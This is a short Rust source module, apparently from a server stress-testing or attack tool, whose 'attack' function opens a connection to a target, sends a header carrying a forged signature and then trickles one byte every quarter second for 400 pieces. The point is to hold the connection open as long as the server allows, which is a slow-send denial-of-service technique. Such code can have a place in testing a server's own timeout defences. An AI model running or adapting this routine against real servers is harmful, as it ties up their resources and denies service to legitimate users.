//! Holds a connection as long as the server lets it, for one byte every quarter of a second.

use std::{io, time::Duration};

use super::{Target, forgery};
use crate::{delivery::delivery_head, wire::Connection};

/// Longer than any server waits.
const DROPS: usize = 400;

pub(super) async fn attack(target: &Target) -> io::Result<()> {
    let (signature, _) = forgery(0)?;
    let head = delivery_head(Some(DROPS), Some(&signature));
    let mut connection = Connection::try_open(target.address).await?;
    target.connected();
    target.requested();
    let mut pieces = vec![&b"x"[..]; DROPS];
    pieces[0] = &head;
    let answer = connection
        .try_exchange(&pieces, Duration::from_millis(250))
        .await;
    target.ended(&answer);
    answer.map(drop)
}
